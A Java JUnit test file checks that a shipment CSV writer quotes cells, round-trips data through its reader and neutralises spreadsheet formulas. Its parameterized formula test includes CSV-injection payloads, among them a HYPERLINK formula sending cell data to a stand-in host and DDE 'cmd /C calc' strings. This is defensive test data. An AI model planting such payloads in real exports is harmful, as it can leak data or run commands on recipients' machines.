package io.waybill.adapters.persistence.csv;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import io.waybill.application.port.in.FakeShipmentsUseCase.Generation;
import io.waybill.application.port.in.ImportShipmentsUseCase;
import io.waybill.application.service.FakeShipmentsService;
import io.waybill.domain.Address;
import io.waybill.domain.AddressLine;
import io.waybill.domain.Article;
import io.waybill.domain.CountryCode;
import io.waybill.domain.Party;
import io.waybill.domain.Shipment;
import io.waybill.domain.ShipmentDetails;
import io.waybill.domain.StatusMapping;
import java.io.ByteArrayInputStream;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.OptionalLong;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class ShipmentCsvWriterTest {

    private static final List<Shipment> SHIPMENTS = FakeShipmentsService.generated(new Generation(2_000,
            OptionalLong.of(5), Instant.parse("2026-11-21T00:00:00Z"), done -> {})).toList();

    @Test
    void writesTheSampleFilesHeaderThenARowPerArticleThatTheReaderReadsBack() {
        String file = write(SHIPMENTS);

        assertThat(file).startsWith("tracking_number,carrier,sender_address,receiver_address,article_name,"
                + "article_quantity,article_price,SKU,status\n");
        List<ImportShipmentsUseCase.Row> rows;
        try (Stream<ImportShipmentsUseCase.Line> lines = CsvShipmentFileReader.importLines(
                new ByteArrayInputStream(file.getBytes(StandardCharsets.UTF_8)))) {
            rows = lines.map(line -> (ImportShipmentsUseCase.Row) line).toList();
        }
        int row = 0;
        for (Shipment shipment : SHIPMENTS) {
            for (Article article : shipment.details().articles()) {
                ImportShipmentsUseCase.Row read = rows.get(row++);
                assertThat(read.trackingNumber()).isEqualTo(shipment.key().number().value());
                assertThat(read.carrier()).isEqualTo(shipment.key().carrier().code());
                assertThat(read.articleName()).isEqualTo(article.name());
                assertThat(Integer.parseInt(read.articleQuantity())).isEqualTo(article.quantity());
                assertThat(read.articlePrice()).isEqualTo(article.price().orElseThrow().toPlainString());
                assertThat(read.sku()).isEqualTo(article.sku().orElseThrow());
                assertThat(StatusMapping.builtIn().canonical(read.status())).contains(shipment.status());
                // Addresses with a zip code come back whole, the country's name turned into its code again.
                shipment.details().sender().map(party -> party.address()).filter(address -> address.zip().isPresent())
                        .ifPresent(address -> assertThat(AddressLine.parse(read.senderAddress())).isEqualTo(address));
            }
        }
        assertThat(rows).hasSize(row);
    }

    @Test
    void quotesEveryCellOfARow() {
        String file = write(SHIPMENTS.subList(0, 1));

        assertThat(file.lines().skip(1)).allSatisfy(line -> {
            assertThat(line).startsWith("\"").endsWith("\"");
            assertThat(line.split("\",\"")).hasSize(9);
        });
    }

    static Stream<String> formulas() {
        return Stream.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "=cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "'=1+1", "''@SUM(A1)", "＝1+1", "-A1");
    }

    /** OWASP's CSV injection: no cell starts a formula; the reader gets every value back as it was. */
    @ParameterizedTest
    @MethodSource("formulas")
    void aValueThatWouldStartAFormulaIsWrittenAsTextAndReadBackAsItWas(String formula) {
        Shipment shipment = hostile(formula);

        String file = write(List.of(shipment));

        List<String> cells = CsvReader.builder().ofCsvRecord(file).stream().skip(1).findFirst().orElseThrow()
                .getFields();
        assertThat(cells).as("what a spreadsheet reads").hasSize(9)
                .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r＝＋－＠".indexOf(cell.charAt(0)) >= 0);
        assertThat(cells.get(4)).isEqualTo("'" + formula);
        ImportShipmentsUseCase.Row read = (ImportShipmentsUseCase.Row) CsvShipmentFileReader.importLines(
                new ByteArrayInputStream(file.getBytes(StandardCharsets.UTF_8))).findFirst().orElseThrow();
        assertThat(read.articleName()).isEqualTo(formula);
        assertThat(read.sku()).isEqualTo(formula);
        assertThat(read.senderAddress()).startsWith(formula + ", 10115 Berlin");
    }

    @Test
    void aCellThatMerelyStartsWithAQuoteIsReadAsWritten() {
        String file = "tracking_number,carrier,sender_address,receiver_address,article_name,article_quantity,"
                + "article_price,SKU,status\nTN1,DHL,a,b,'Tis the season,1,2,'=,in_transit\n";

        ImportShipmentsUseCase.Row read = (ImportShipmentsUseCase.Row) CsvShipmentFileReader.importLines(
                new ByteArrayInputStream(file.getBytes(StandardCharsets.UTF_8))).findFirst().orElseThrow();

        assertThat(read.articleName()).as("no formula after the quote: kept").isEqualTo("'Tis the season");
        assertThat(read.sku()).as("the writer's mark before a formula: taken away").isEqualTo("=");
    }

    private static Shipment hostile(String formula) {
        Shipment generated = SHIPMENTS.get(0);
        ShipmentDetails details = generated.details();
        Party sender = Party.at(Address.of(formula, "10115", "Berlin", CountryCode.of("DE")));
        return new Shipment(generated.key(), new ShipmentDetails(details.origin(), details.destination(),
                details.weight(), details.customer(), details.orderedAt(), Optional.of(sender), details.receiver(),
                List.of(new Article(formula, 1, Optional.of(BigDecimal.TEN), Optional.of(formula))),
                details.publicTracking()), generated.events(), generated.createdAt(), generated.version());
    }

    private static String write(List<Shipment> shipments) {
        StringWriter out = new StringWriter();
        try (ShipmentCsvWriter writer = ShipmentCsvWriter.open(out)) {
            shipments.forEach(writer::write);
        }
        return out.toString();
    }
}
